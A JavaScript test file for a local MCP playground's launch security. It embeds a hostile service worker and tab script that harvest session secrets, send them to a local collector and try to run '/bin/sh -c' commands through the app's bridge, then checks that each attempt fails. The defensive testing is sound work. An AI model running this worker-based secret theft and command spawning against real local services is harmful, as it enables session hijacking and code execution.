// Issue 43 item 1 (round-4 attack pass, findings 1 and 2): a launch that only this playground can answer.
// 1. An earlier holder of 127.0.0.1:<port>, visited once, left a service worker and an open tab there. The playground
//    later runs on that port, three launches in a row: each launch is on an origin of its own
//    (mcp-<random>.localhost), so the worker and the tab learn no secret and run nothing through the bridge; and the
//    worker's update check is answered with a script that removes it.
// 2. With HOST=localhost, a listener already on the other loopback address ([::1]) stops the launch (it would
//    receive the launch URL and trade its code); once the playground listens, nothing else can take [::1].
import { existsSync, mkdtempSync, rmSync } from "node:fs";
import http from "node:http";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { spawnApp } from "../../../scripts/local-app.mjs";
import { SESSION_COOKIE, freePort, startServer } from "../harness.mjs";

/** A server on 127.0.0.1:`port` until close(): `routes` maps a path to [content type, body]. */
async function serve(port, routes) {
  const server = http.createServer((req, res) => {
    const [type, body] = routes[req.url.split("?")[0]] ?? ["text/plain", "not here"];
    res.writeHead(routes[req.url.split("?")[0]] ? 200 : 404, { "Content-Type": type, "Cache-Control": "no-store" });
    res.end(body);
  });
  await new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(port, "127.0.0.1", resolve);
  });
  return {
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}

/** What the earlier holder's worker and tab report, as they see it (POSTed to a collector that outlives them). */
async function collector() {
  const reports = [];
  const server = http.createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      reports.push(body);
      res.writeHead(204, { "Access-Control-Allow-Origin": "*" });
      res.end();
    });
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${server.address().port}/`, reports, close: () => server.close() };
}

/**
 * The earlier holder's service worker: reports every request it sees (with any session header) and every
 * /api/signin answer, and on each one tries to run `command` through the bridge with whatever it has learnt.
 */
const workerScript = (report, command) => `
const report = (kind, data) => fetch(${JSON.stringify(report)}, { method: "POST", mode: "no-cors", body: JSON.stringify({ from: "worker", kind, data }) }).catch(() => {});
const learnt = new Set();
const spawn = (secret) => fetch("/api/bridge/send", {
  method: "POST", credentials: "include",
  headers: Object.assign({ "content-type": "application/json" }, secret ? { "x-playground-session": secret } : {}),
  body: JSON.stringify({ sendId: "sw-" + Math.random(), target: { kind: "stdio", command: "/bin/sh", args: ["-c", ${JSON.stringify(command)}] }, frame: '{"jsonrpc":"2.0","id":1,"method":"ping"}' }),
}).then((r) => r.text()).then((t) => report("spawn", t.slice(0, 200))).catch((e) => report("spawn-failed", String(e)));
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const secret = e.request.headers.get("x-playground-session");
  if (secret) learnt.add(secret);
  report("request", { url: e.request.url, secret });
  if (new URL(e.request.url).pathname === "/api/signin")
    e.respondWith(fetch(e.request).then(async (r) => { report("signin", await r.clone().text()); return r; }));
  for (const s of [null, ...learnt]) spawn(s);
});
`;

/**
 * The earlier holder's page, left open in a tab: it registers the worker, listens to storage events and to the
 * playground's BroadcastChannel names, reads this origin's storage, and keeps trying the bridge (one round every
 * 100 ms, each reported as a heartbeat) with every secret it has found.
 */
const pageHtml = (report, command) => `<!doctype html><title>an earlier server</title><script>
const report = (kind, data) => fetch(${JSON.stringify(report)}, { method: "POST", mode: "no-cors", body: JSON.stringify({ from: "tab", kind, data }) }).catch(() => {});
const learnt = new Set();
addEventListener("storage", (e) => { learnt.add(e.newValue); report("storage", { key: e.key, value: e.newValue }); });
for (const name of ["mcp-playground:sign-in", "mcp-playground:signed-in"]) {
  const bc = new BroadcastChannel(name);
  bc.onmessage = (e) => report("broadcast", { name, data: e.data });
  bc.postMessage({ type: "ask" });
}
navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => (document.title = "registered"));
let round = 0;
setInterval(() => {
  for (let i = 0; i < localStorage.length; i++) learnt.add(localStorage.getItem(localStorage.key(i)));
  for (const secret of [null, ...learnt])
    fetch("/api/bridge/send", {
      method: "POST", credentials: "include",
      headers: Object.assign({ "content-type": "application/json" }, secret ? { "x-playground-session": secret } : {}),
      body: JSON.stringify({ sendId: "tab-" + Math.random(), target: { kind: "stdio", command: "/bin/sh", args: ["-c", ${JSON.stringify(command)}] }, frame: '{"jsonrpc":"2.0","id":1,"method":"ping"}' }),
    }).then((r) => r.text()).then((t) => report("spawn", t.slice(0, 200))).catch(() => {});
  report("heartbeat", { round: ++round, storage: { ...localStorage } });
}, 100);
</script><p>an earlier server on this port</p>`;

/** Waits (up to `ms`) until `check()` holds; throws `what` after. */
async function until(check, what, ms = 20_000) {
  const deadline = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

export function register({ test, assert }) {
  test("launch origin: a service worker and an open tab an earlier server left on 127.0.0.1:PORT learn no secret and run nothing, three launches in a row; the worker is then removed", async ({
    ctx,
  }) => {
    const scratch = mkdtempSync(path.join(os.tmpdir(), "launch-squat-"));
    const marker = path.join(scratch, "pwned");
    const command = `touch ${marker}`;
    const exfil = await collector();
    const port = await freePort();
    const context = await ctx.context.browser().newContext({ locale: "en-US" });
    try {
      // 1. The earlier holder of the port, visited once: its worker registers, and its tab stays open.
      const earlier = await serve(port, {
        "/": ["text/html", pageHtml(exfil.url, command)],
        "/sw.js": ["text/javascript", workerScript(exfil.url, command)],
      });
      const tab = await context.newPage();
      await tab.goto(`http://127.0.0.1:${port}/`);
      await until(async () => (await tab.title()) === "registered", "the earlier server's worker to register");
      await earlier.close();

      // 2. Three launches of the playground on that port, each opened in the same browser (the same profile).
      const seen = [];
      for (let launch = 1; launch <= 3; launch++) {
        const srv = await startServer({ port });
        try {
          const beats = () => exfil.reports.filter((r) => r.includes('"heartbeat"')).length;
          const before = beats();
          const page = await context.newPage();
          await page.goto(srv.launchUrl);
          await page.waitForSelector('[data-testid="playground"][data-hydrated="true"]', { timeout: 30_000 });
          await until(
            async () => (await context.cookies(srv.base)).some((c) => c.name === SESSION_COOKIE),
            `launch ${launch}: the sign-in`,
          );
          const cookie = (await context.cookies(srv.base)).find((c) => c.name === SESSION_COOKIE);
          assert(cookie, `launch ${launch}: not signed in`);
          seen.push(cookie.value, new URLSearchParams(new URL(srv.launchUrl).hash.slice(1)).get("launch"));
          assert(
            (await page.evaluate(() => navigator.serviceWorker.controller)) === null,
            `launch ${launch}: a service worker controls the launch page`,
          );
          // The open tab has tried the bridge many times during this launch (its heartbeats say so).
          await until(() => beats() >= before + 10, `launch ${launch}: the earlier tab's attempts`);
          await page.close();
          if (launch === 3) {
            // 3. The worker's next update check reaches the playground (a page of the old address commits, then moves
            //    to the launch's), which answers with a script that removes it.
            const visit = await context.newPage();
            await visit.goto(`http://127.0.0.1:${port}/`).catch(() => {});
            await until(
              async () => (await tab.evaluate(() => navigator.serviceWorker.getRegistrations())).length === 0,
              "the earlier server's worker to be removed",
            );
            await visit.close();
          }
        } finally {
          await srv.stop();
        }
      }
      const leaked = exfil.reports.filter((r) => seen.some((s) => r.includes(s)));
      assert(leaked.length === 0, `the earlier server's worker or tab learnt a secret or code: ${leaked.join("\n")}`);
      assert(!existsSync(marker), "a command ran through the bridge for the earlier server's worker or tab");
      const spawns = exfil.reports.filter((r) => r.includes('"spawn"'));
      assert(spawns.length > 0, "the earlier tab never reached the bridge (the repro did not run)");
    } finally {
      await context.close();
      exfil.close();
      rmSync(scratch, { recursive: true, force: true });
    }
  });

  test("launch origin: with HOST=localhost a listener already on the other loopback address stops the launch (it never sees a launch URL); once started, nobody can take [::1]", async () => {
    const ipv6 = await new Promise((resolve) => {
      const probe = net.createServer();
      probe.once("error", () => resolve(false));
      probe.listen(0, "::1", () => probe.close(() => resolve(true)));
    });
    if (!ipv6) {
      console.log(
        "    (this machine has no IPv6 loopback [::1]: nobody can listen there, so the case has nothing to prove)",
      );
      return;
    }
    const port = await freePort();
    const squatter = net.createServer((socket) => socket.end("HTTP/1.1 200 OK\r\n\r\nsquatter"));
    await new Promise((resolve) => squatter.listen(port, "::1", resolve));
    try {
      const { child, log } = spawnApp({
        server: "start",
        port,
        env: { ...process.env, HOST: "localhost", PLAYGROUND_OPEN: "0", PLAYGROUND_TOKEN: "" },
      });
      const code = await new Promise((resolve) => child.once("exit", resolve));
      assert(code === 1, `the server went on with [::1]:${port} taken (exit ${code}): ${log()}`);
      assert(
        log().includes(`cannot listen on [::1]:${port} (EADDRINUSE): another program holds it`),
        `the server does not say why: ${log()}`,
      );
      assert(!log().includes("#launch="), `a launch URL was printed: ${log()}`);
    } finally {
      await new Promise((resolve) => squatter.close(resolve));
    }
    const srv = await startServer({ port, env: { HOST: "localhost" } });
    try {
      assert(
        srv.log().includes(`listening on 127.0.0.1:${port} and [::1]:${port}`),
        `the server does not say what it bound: ${srv.log()}`,
      );
      const late = await new Promise((resolve) => {
        const s = net.createServer();
        s.once("error", (e) => resolve(e.code));
        s.listen(port, "::1", () => s.close(() => resolve("listening")));
      });
      assert(late === "EADDRINUSE", `another program could listen on [::1]:${port}: ${late}`);
    } finally {
      await srv.stop();
    }
  });
}
